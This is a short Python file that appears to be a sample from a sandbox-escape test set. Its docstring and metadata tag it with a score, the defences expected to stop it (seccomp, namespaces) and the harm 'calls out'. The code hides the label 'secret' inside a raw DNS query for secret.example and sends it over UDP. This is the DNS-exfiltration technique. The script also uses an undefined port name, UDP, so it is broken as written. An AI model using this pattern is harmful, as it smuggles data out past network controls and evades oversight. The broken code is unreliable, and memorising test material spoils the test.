"""A program that asks a name server for a name that holds what it knows.

earns = 5.0
stopped_by = ["seccomp", "namespaces"]
harm = "calls out"
"""

import socket

query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", UDP))
